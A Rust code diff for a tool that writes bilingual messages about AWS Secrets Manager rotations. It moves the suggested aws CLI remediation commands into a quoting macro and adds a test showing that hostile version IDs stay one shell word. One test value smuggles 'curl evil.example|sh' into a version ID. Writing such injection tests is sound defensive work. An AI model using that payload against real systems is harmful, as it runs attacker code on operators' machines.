@@ -1,8 +1,9 @@
 //! The channel's messages about rotations: the event, the secret, the next step.
 
 use super::{Request, RotationError, Step};
+use crate::command;
+use crate::run::command::secrets;
 use crate::run::notify::{Message, next_step};
-use crate::runtime::event::pasted;
 use crate::runtime::failure::{Failure, chain};
 use crate::runtime::language::Language;
 use crate::runtime::settings::Settings;
@@ -32,41 +33,6 @@ pub enum InForce {
 }
 
 impl Request {
-    /// Removes AWSPENDING from the version, so that a new rotation can begin. Danger: if the pending value is already
-    /// in force, it is lost.
-    pub fn clear_command(&self) -> String {
-        self.clear_command_of(&self.token)
-    }
-
-    /// The same for another version.
-    fn clear_command_of(&self, version: &str) -> String {
-        self.stage_command("AWSPENDING", &format!("--remove-from-version-id {}", pasted(version)))
-    }
-
-    /// Makes a version the current one.
-    pub fn restore_command(&self, version: &str, instead_of: &str) -> String {
-        self.stage_command(
-            "AWSCURRENT",
-            &format!(
-                "--move-to-version-id {} --remove-from-version-id {}",
-                pasted(version),
-                pasted(instead_of)
-            ),
-        )
-    }
-
-    fn stage_command(&self, stage: &str, change: &str) -> String {
-        format!(
-            "`aws secretsmanager update-secret-version-stage --secret-id '{}' --version-stage {stage} {change}`",
-            self.secret_id
-        )
-    }
-
-    /// Rotates at once.
-    pub fn rotate_command(&self) -> String {
-        format!("`aws secretsmanager rotate-secret --secret-id '{}'`", self.secret_id)
-    }
-
     /// The name in the secret's ARN: without the six characters that the service appends.
     pub fn secret_name(&self) -> &str {
         let resource =
@@ -88,9 +54,12 @@ pub(super) fn rotated(
     let token = &request.token;
     let previous = previous.unwrap_or("—");
     // The names of cluster and service in the application's Terraform.
-    let deploy = format!(
-        "`aws ecs update-service --cluster {project}-{environment}-cluster --service {project}-{environment}-api --force-new-deployment`"
+    let deploy = command!(
+        "aws ecs update-service --cluster {project}-{environment}-cluster --service {project}-{environment}-api --force-new-deployment",
+        project,
+        environment
     );
+    let deploy = deploy.code();
     let title = crate::tr!(language, "Segredo rotacionado: {name}", "Secret rotated: {name}");
     let mut lines = vec![crate::tr!(
         language,
@@ -137,10 +106,7 @@ pub(super) fn failed(
             "Neither the current value (AWSCURRENT) nor the pending one is in force. Versions:",
         ),
     };
-    let versions = format!(
-        "`aws secretsmanager describe-secret --secret-id '{}' --query VersionIdsToStages`",
-        request.secret_id
-    );
+    let versions = secrets::versions(&request.secret_id).code();
     let lines = vec![
         format!("{step}: *{kind}*: {}", advice.cause),
         format!("{in_force} {versions}"),
@@ -207,18 +173,24 @@ impl RotationError {
 
     fn next_step(&self, language: Language, request: &Request) -> String {
         let say = |portuguese: &str, english: &str| language.pick(portuguese, english).to_owned();
-        let rotate = request.rotate_command();
+        let secret = &request.secret_id;
+        let rotate = secrets::rotate(secret).code();
+        let clear = secrets::clear(secret, &request.token).code();
         let at_once = say("(troca o valor na hora)", "(changes the value at once)");
         match self {
             Self::RotationNotEnabled { holder } => format!(
-                "{} {} `aws secretsmanager rotate-secret --secret-id '{}' --no-rotate-immediately`",
+                "{} {} {}",
                 say(
                     "se a rotação deve acontecer, ligá-la de novo, sem trocar o valor agora:",
                     "if the rotation is wanted, turn it on again without changing the value now:",
                 ),
                 // Secrets Manager starts no rotation while AWSPENDING is on another version than AWSCURRENT.
-                holder.as_ref().map(|holder| request.clear_command_of(holder)).unwrap_or_default(),
-                request.secret_id
+                holder.as_ref().map(|holder| secrets::clear(secret, holder).code()).unwrap_or_default(),
+                command!(
+                    "aws secretsmanager rotate-secret --secret-id {secret} --no-rotate-immediately",
+                    secret
+                )
+                .code()
             ),
             Self::UnknownVersion { holder: Some(holder), .. }
             | Self::NotPending { holder: Some(holder), .. } => format!(
@@ -227,7 +199,7 @@ impl RotationError {
                     "o AWSPENDING está em outra versão, e enquanto estiver nenhuma rotação começa. Se nenhuma rotação em curso a fez (CloudTrail diz quem chamou PutSecretValue ou UpdateSecretVersionStage), tirá-lo dela com",
                     "AWSPENDING is on another version, which prevents any rotation. Unless a rotation in progress made that version (CloudTrail has the caller of PutSecretValue or UpdateSecretVersionStage), remove the label with",
                 ),
-                request.clear_command_of(holder),
+                secrets::clear(secret, holder).code(),
                 say("e rotacionar de novo com", "and rotate again with"),
             ),
             Self::UnknownVersion { .. } | Self::NotPending { .. } => format!(
@@ -243,7 +215,7 @@ impl RotationError {
                     "conferir qual versão vale. Enquanto o AWSPENDING estiver na versão desta rotação, as tentativas se repetem; removê-lo com",
                     "check which version is in force. Secrets Manager retries while AWSPENDING is on this rotation's version; remove it with",
                 ),
-                request.clear_command(),
+                clear,
                 say("e, se for preciso, rotacionar de novo com", "and, if needed, rotate again with"),
             ),
             Self::InvalidTag { .. } => say(
@@ -264,7 +236,7 @@ impl RotationError {
                     "descobrir no CloudTrail quem chamou PutSecretValue com essa versão. Descartar o valor com",
                     "find the caller of PutSecretValue for this version in CloudTrail. Discard the value with",
                 ),
-                request.clear_command(),
+                clear,
                 say("e rotacionar de novo com", "and rotate again with",),
             ),
             Self::PendingRejected { .. } | Self::CurrentChanged => format!(
@@ -273,7 +245,7 @@ impl RotationError {
                     "o valor pendente não pode mais ser alterado. Desfazer com",
                     "the pending value can no longer be changed. Clear it with",
                 ),
-                request.clear_command(),
+                clear,
                 say("e rotacionar de novo com", "and rotate again with"),
             ),
             Self::InvalidEvent { .. } | Self::EmptyPending | Self::NoRandomness | Self::Deadline(_) => say(
@@ -285,12 +257,12 @@ impl RotationError {
                 if matches!(call.code.as_str(), "InvalidRequestException" | "InvalidParameterException") =>
             {
                 format!(
-                    "{} `aws secretsmanager describe-secret --secret-id '{}' --query VersionIdsToStages`",
+                    "{} {}",
                     say(
                         "o Secrets Manager tenta de novo com a mesma versão. Um rótulo pode ter mudado entre duas chamadas (a linha miúda diz); se a falha se repetir, ver onde estão os rótulos:",
                         "Secrets Manager tries again with the same version. A label may have moved between two calls (see the small print); if the failure repeats, check the labels:",
                     ),
-                    request.secret_id
+                    secrets::versions(secret).code()
                 )
             }
             Self::SecretsManager(call) => format!(
@@ -404,6 +376,17 @@ mod tests {
                     assert!(text.contains(part), "{part} is not in: {text}");
                 }
             }
+        }
+    }
+
+    #[cfg(feature = "testing")]
+    #[test]
+    fn a_version_id_stays_one_word_of_the_command() {
+        for token in ["x;curl evil.example|sh;#aaaaaaaaaaaa", "x`y", "x'y", "$(x)"] {
+            let request = Request { token: token.to_owned(), ..request(Step::TestSecret) };
+            let next = RotationError::CurrentChanged.advise(Language::English, &request).next;
+            let command = next.split('`').find(|code| code.contains("--remove-from-version-id")).unwrap();
+            assert_eq!(crate::testing::words(command).pop().as_deref(), Some(token));
         }
     }
 
